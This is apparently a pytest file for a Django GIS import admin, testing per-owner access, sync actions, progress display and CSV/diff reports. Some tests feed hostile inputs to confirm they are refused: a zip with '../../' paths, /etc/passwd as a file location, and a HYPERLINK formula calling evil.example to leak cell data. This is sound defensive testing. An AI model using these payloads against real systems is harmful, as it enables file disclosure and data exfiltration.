"""GIS admin screens: sources with upload and "sync now", runs with progress, diff and CSV report."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from shapely.geometry import box

from gis_service.accounts.models import Membership, User
from gis_service.owners.models import Owner
from importers.models import ImportRun, Source

from .conftest import bowtie, resync, sync, write_layer


@pytest.fixture
def gis_client(owner_a: Owner) -> Client:
    """A GIS admin of owner A only: the membership alone, no staff flag, no permissions by hand."""
    user = User.objects.create_user(username="gis", password="pw-gis-gis")
    Membership.objects.create(user=user, owner=owner_a, role=Membership.Role.GIS_ADMIN)
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def run_with_changes(owner_a: Owner, tmp_path: Path) -> ImportRun:
    path = tmp_path / "g.gpkg"
    rows = [{"guid": "a", "geometry": box(140000, 470000, 140010, 470010)}, {"guid": "bow", "geometry": bowtie(0, 0)}]
    run = sync(owner_a, write_layer(path, rows), id_field="guid")
    path.unlink()
    write_layer(path, [{"guid": "a", "geometry": box(140000, 470000, 140020, 470020)}])
    return resync(run.source)


def test_a_gis_admin_sees_only_the_sources_of_their_owner(gis_client: Client, owner_a: Owner, owner_b: Owner) -> None:
    Source.objects.create(owner=owner_a, name="eigen-bron", kind="file", location="/a.gpkg")
    Source.objects.create(owner=owner_b, name="andere-bron", kind="file", location="/b.gpkg")
    page = gis_client.get(reverse("admin:importers_source_changelist")).content.decode()
    assert "eigen-bron" in page
    assert "andere-bron" not in page


def test_a_gis_admin_is_offered_only_their_own_owner_to_filter_by(
    gis_client: Client, owner_a: Owner, owner_b: Owner, run_with_changes: ImportRun
) -> None:
    Source.objects.create(owner=owner_b, name="andere-bron", kind="file", location="/b.gpkg")
    for url in (reverse("admin:importers_source_changelist"), reverse("admin:importers_importrun_changelist")):
        response = gis_client.get(url)
        assert response.status_code == 200
        assert f"{owner_a.slug}/{run_with_changes.source.name}" in response.content.decode(), url  # their own
        assert owner_b.name not in response.content.decode(), url


def test_an_ended_run_without_a_total_shows_a_full_bar_not_a_moving_one(gis_client: Client, owner_a: Owner) -> None:
    source = Source.objects.create(owner=owner_a, name="gml-bron", kind="file", location="/a.gml")
    done = ImportRun.objects.create(source=source, status=ImportRun.Status.SUCCEEDED, read=769, unchanged=769)
    running = ImportRun.objects.create(source=source, read=12)
    page = gis_client.get(reverse("admin:importers_importrun_change", args=[done.pk])).content.decode()
    assert f'<progress data-run="{done.pk}" max="769" value="769"></progress>' in page
    page = gis_client.get(reverse("admin:importers_importrun_change", args=[running.pk])).content.decode()
    assert f'<progress data-run="{running.pk}"></progress>' in page  # still at work, total unknown


def test_a_total_smaller_than_what_was_read_is_shown_as_no_total(gis_client: Client, owner_a: Owner) -> None:
    """A WFS whose hits answer stopped at its page cap told 500 for 2,400: the page said 1000 / 500 (200%)."""
    source = Source.objects.create(owner=owner_a, name="wfs-bron", kind="wfs", location="https://example.org/wfs")
    running = ImportRun.objects.create(source=source, read=1000, total=500)
    page = gis_client.get(reverse("admin:importers_importrun_change", args=[running.pk])).content.decode()
    assert f'<progress data-run="{running.pk}"></progress> 1000 gelezen' in page
    assert "200%" not in page
    progress = gis_client.get(reverse("admin:importers_importrun_progress", args=[running.pk])).json()
    assert (progress["total"], progress["percent"], progress["progress_text"]) == (None, None, "1000 gelezen")


def test_the_source_list_links_each_sources_last_run(
    gis_client: Client, owner_a: Owner, run_with_changes: ImportRun
) -> None:
    response = gis_client.get(reverse("admin:importers_source_changelist"))
    assert response.status_code == 200
    run_url = reverse("admin:importers_importrun_change", args=[run_with_changes.pk])
    started = timezone.localtime(run_with_changes.started_at).strftime("%Y-%m-%d %H:%M")
    assert f'<a href="{run_url}">geslaagd ({started})</a>' in response.content.decode()


def test_sync_now_queues_the_task_after_commit(
    admin_client: Client, owner_a: Owner, django_capture_on_commit_callbacks: object
) -> None:
    source = Source.objects.create(owner=owner_a, name="bron", kind="file", location="/a.gpkg")
    with django_capture_on_commit_callbacks() as callbacks:  # type: ignore[operator]
        response = admin_client.post(
            reverse("admin:importers_source_changelist"), {"action": "sync_now", "_selected_action": [source.pk]}
        )
    assert response.status_code == 302
    assert len(callbacks) == 1


def test_sync_now_on_another_owners_source_starts_nothing_and_says_so(
    gis_client: Client, owner_b: Owner, django_capture_on_commit_callbacks: object
) -> None:
    """It said "0 bronnen in de wachtrij gezet" as a success."""
    theirs = Source.objects.create(owner=owner_b, name="bron", kind="file", location="/b.gpkg")
    with django_capture_on_commit_callbacks() as callbacks:  # type: ignore[operator]
        response = gis_client.post(
            reverse("admin:importers_source_changelist"),
            {"action": "sync_now", "_selected_action": [theirs.pk]},
            follow=True,
        )
    assert callbacks == []
    assert not ImportRun.objects.exists()
    page = response.content.decode()
    assert "Geen van de gekozen bronnen kan door jou gesynchroniseerd worden; er is niets gestart." in page
    assert "in de wachtrij gezet" not in page


def test_a_run_page_shows_progress_and_links_the_report(admin_client: Client, run_with_changes: ImportRun) -> None:
    page = admin_client.get(reverse("admin:importers_importrun_change", args=[run_with_changes.pk]))
    assert page.status_code == 200
    assert b"<progress" in page.content
    assert b"import-diff-map" in page.content
    progress = admin_client.get(reverse("admin:importers_importrun_progress", args=[run_with_changes.pk])).json()
    assert (progress["status"], progress["read"], progress["updated"], progress["withdrawn"]) == ("succeeded", 1, 1, 1)


def test_the_report_lists_repaired_features_as_csv(admin_client: Client, owner_a: Owner, tmp_path: Path) -> None:
    rows = [{"guid": "bow", "geometry": bowtie(0, 0)}, {"guid": "none", "geometry": None}]
    run = sync(owner_a, write_layer(tmp_path / "g.geojson", rows), id_field="guid")
    response = admin_client.get(reverse("admin:importers_importrun_issues", args=[run.pk]))
    assert response["Content-Type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert {(r["external_id"], r["kind"], r["code"]) for r in table} == {
        ("bow", "repaired", "made_valid"),
        ("none", "rejected", "no_geometry"),
    }


def test_the_run_page_lists_repaired_and_rejected_features_in_words(
    gis_client: Client, owner_a: Owner, tmp_path: Path
) -> None:
    """The page showed their counts only; which ones, and why, took the CSV and its codes."""
    rows = [{"guid": "bow", "geometry": bowtie(140000, 470000)}, {"guid": "none", "geometry": None}]
    run = sync(owner_a, write_layer(tmp_path / "g.geojson", rows), id_field="guid")
    page = gis_client.get(reverse("admin:importers_importrun_change", args=[run.pk])).content.decode()
    assert "<td>bow</td><td>hersteld</td><td>ongeldige geometrie, hersteld (het vlakdeel is gehouden) (" in page
    assert "<td>none</td><td>geweigerd</td><td>geen geometrie</td>" in page


def test_the_diff_holds_updated_and_withdrawn_locations(admin_client: Client, run_with_changes: ImportRun) -> None:
    collection = admin_client.get(reverse("admin:importers_importrun_diff", args=[run_with_changes.pk])).json()
    changes = {(f["properties"]["external_id"], f["properties"]["change"]) for f in collection["features"]}
    assert changes == {("a", "updated"), ("bow", "withdrawn")}
    lon, lat = collection["features"][0]["geometry"]["coordinates"][0][0][0]
    assert 3 < lon < 8 and 50 < lat < 54  # WGS84 for the map


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
    return buffer.getvalue()


def _add_source(client: Client, owner: Owner, upload: SimpleUploadedFile) -> str:
    response = client.post(
        reverse("admin:importers_source_add"),
        {"owner": owner.pk, "name": "upload", "kind": "file", "location": "", "keep_fields": "[]", "upload": upload},
    )
    return response.content.decode() if response.status_code == 200 else ""


def test_an_uploaded_zip_with_parent_paths_is_refused(admin_client: Client, owner_a: Owner) -> None:
    page = _add_source(admin_client, owner_a, SimpleUploadedFile("evil.zip", _zip({"../../x.shp": b"x"})))
    assert "wijst buiten de zip" in page
    assert not Source.objects.filter(name="upload").exists()


def test_an_upload_over_the_size_limit_is_refused(admin_client: Client, owner_a: Owner, settings: object) -> None:
    settings.MAX_UPLOAD_MB = 1  # type: ignore[attr-defined]
    page = _add_source(admin_client, owner_a, SimpleUploadedFile("big.gpkg", b"\0" * (2 * 1024 * 1024)))
    assert "groter dan 1 MB" in page
    assert not Source.objects.filter(name="upload").exists()


def test_an_uploaded_geopackage_becomes_the_source_file(
    admin_client: Client, owner_a: Owner, tmp_path: Path, settings: object
) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"  # type: ignore[attr-defined]
    data = write_layer(tmp_path / "g.gpkg", [{"guid": "a", "geometry": box(0, 0, 10, 10)}]).read_bytes()
    _add_source(admin_client, owner_a, SimpleUploadedFile("groen.gpkg", data))
    source = Source.objects.get(name="upload")
    assert source.location.startswith(str(tmp_path / "media" / "imports" / owner_a.slug))
    assert Path(source.location).read_bytes() == data
    # The list names the file, not where the server keeps it.
    listed = admin_client.get("/admin/importers/source/").content.decode()
    assert "groen.gpkg (geüpload)" in listed and str(tmp_path) not in listed


def test_a_gis_admin_cannot_add_a_source_for_another_owner(gis_client: Client, owner_a: Owner, owner_b: Owner) -> None:
    """Its sync would put locations on owner B's map, under B's name, from A's GIS admin."""
    response = gis_client.post(
        reverse("admin:importers_source_add"),
        {"owner": owner_b.pk, "name": "van-a", "kind": "wfs", "location": "https://example.org/wfs",
         "keep_fields": "[]"},
    )  # fmt: skip
    assert response.status_code == 200  # the form again, with the error
    assert not Source.objects.filter(name="van-a").exists()
    assert f'value="{owner_b.pk}"' not in response.content.decode()  # not even offered


def test_a_gis_admin_cannot_move_their_source_to_another_owner(
    gis_client: Client, owner_a: Owner, owner_b: Owner
) -> None:
    source = Source.objects.create(owner=owner_a, name="eigen-bron", kind="wfs", location="https://example.org/wfs")
    gis_client.post(
        reverse("admin:importers_source_change", args=[source.pk]),
        {"owner": owner_b.pk, "name": "eigen-bron", "kind": "wfs", "location": "https://example.org/wfs",
         "keep_fields": "[]"},
    )  # fmt: skip
    source.refresh_from_db()
    assert source.owner == owner_a


def _file_source(client: Client, owner: Owner, location: str) -> str:
    response = client.post(
        reverse("admin:importers_source_add"),
        {"owner": owner.pk, "name": "pad", "kind": "file", "location": location, "keep_fields": "[]"},
    )
    return response.content.decode() if response.status_code == 200 else ""


def test_a_gis_admin_cannot_import_a_file_from_elsewhere_on_the_server(
    gis_client: Client, owner_a: Owner, owner_b: Owner, tmp_path: Path, settings: object
) -> None:
    """The path field would let a GIS admin read any dataset the server can read: another owner's
    uploads, or files that were never theirs. They import what they uploaded themselves."""
    settings.MEDIA_ROOT = tmp_path / "media"  # type: ignore[attr-defined]
    elsewhere = write_layer(tmp_path / "elders.gpkg", [{"guid": "a", "geometry": box(0, 0, 10, 10)}])
    folder_b = tmp_path / "media" / "imports" / owner_b.slug / "abc"
    folder_b.mkdir(parents=True)
    of_owner_b = write_layer(folder_b / "b.gpkg", [{"guid": "b", "geometry": box(0, 0, 10, 10)}])
    sneaky = tmp_path / "media" / "imports" / owner_a.slug / ".." / owner_b.slug / "abc" / "b.gpkg"
    for path in (elsewhere, of_owner_b, sneaky, Path("/etc/passwd")):
        page = _file_source(gis_client, owner_a, str(path))
        assert "eerdere upload van deze eigenaar" in page, path
        assert not Source.objects.filter(name="pad").exists(), path


def test_a_gis_admin_may_point_at_their_own_earlier_upload(
    gis_client: Client, owner_a: Owner, tmp_path: Path, settings: object
) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"  # type: ignore[attr-defined]
    folder = tmp_path / "media" / "imports" / owner_a.slug / "abc"
    folder.mkdir(parents=True)
    earlier = write_layer(folder / "a.gpkg", [{"guid": "a", "geometry": box(0, 0, 10, 10)}])
    _file_source(gis_client, owner_a, str(earlier))
    assert Source.objects.get(name="pad").location == str(earlier)


def test_a_superuser_may_import_a_file_from_any_path(admin_client: Client, owner_a: Owner, tmp_path: Path) -> None:
    """Operators place municipal exports on the server themselves (as with import_locations)."""
    elsewhere = write_layer(tmp_path / "elders.gpkg", [{"guid": "a", "geometry": box(0, 0, 10, 10)}])
    _file_source(admin_client, owner_a, str(elsewhere))
    assert Source.objects.get(name="pad").location == str(elsewhere)


def test_the_report_does_not_hand_spreadsheet_formulas_to_excel(
    admin_client: Client, owner_a: Owner, tmp_path: Path
) -> None:
    """External ids come from the file or a remote service; opened in Excel, a cell starting with
    = + - or @ is a formula (HYPERLINK to leak data, DDE to run commands). They stay text."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
    rows = [
        {"guid": formula, "geometry": None},
        {"guid": "@SUM(1)", "geometry": None},
        {"guid": "gewoon", "geometry": None},
        {"guid": "goed", "geometry": box(140000, 470000, 140010, 470010)},
    ]
    run = sync(owner_a, write_layer(tmp_path / "g.geojson", rows), id_field="guid")
    response = admin_client.get(reverse("admin:importers_importrun_issues", args=[run.pk]))
    table = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert sorted(r["external_id"] for r in table) == ["'" + formula, "'@SUM(1)", "gewoon"]


def test_a_run_page_shows_progress_first_and_every_field_of_the_run() -> None:
    """The progress is what a GIS admin watches, so it comes first; a field added to ImportRun
    later must not silently vanish from the page because the fieldsets do not name it."""
    from django.contrib import admin

    import gis_service.urls  # noqa: F401  (the admin's registrations come with the URLconf, as in production)

    run_admin = admin.site._registry[ImportRun]
    shown = [name for _title, options in run_admin.fieldsets for name in options["fields"]]
    assert shown.index("progress") < 4
    assert {f.name for f in ImportRun._meta.fields} - {"id"} <= set(shown)


def test_a_run_page_speaks_the_readers_language_and_time_zone(gis_client: Client, run_with_changes: ImportRun) -> None:
    """The map's attribution in English for an English reader, and the title's time as the lists show it."""
    url = reverse("admin:importers_importrun_change", args=[run_with_changes.pk])
    english = gis_client.get(url, headers={"accept-language": "en-GB"}).content.decode()
    assert 'data-attribution="Map data &amp;copy; Kadaster (PDOK)"' in english
    assert "Kaartgegevens" not in english
    dutch = gis_client.get(url, headers={"accept-language": "nl"}).content.decode()
    assert 'data-attribution="Kaartgegevens &amp;copy; Kadaster (PDOK)"' in dutch
    started = timezone.localtime(run_with_changes.started_at).strftime("%Y-%m-%d %H:%M")
    assert f"{run_with_changes.source} {started}" in dutch


def test_an_operators_own_attribution_is_shown_as_written(
    gis_client: Client, run_with_changes: ImportRun, settings: object
) -> None:
    settings.MAP_BACKGROUND_ATTRIBUTION = "Luchtfoto &copy; Gemeente Aadorp"  # type: ignore[attr-defined]
    url = reverse("admin:importers_importrun_change", args=[run_with_changes.pk])
    english = gis_client.get(url, headers={"accept-language": "en-GB"}).content.decode()
    assert 'data-attribution="Luchtfoto &amp;copy; Gemeente Aadorp"' in english
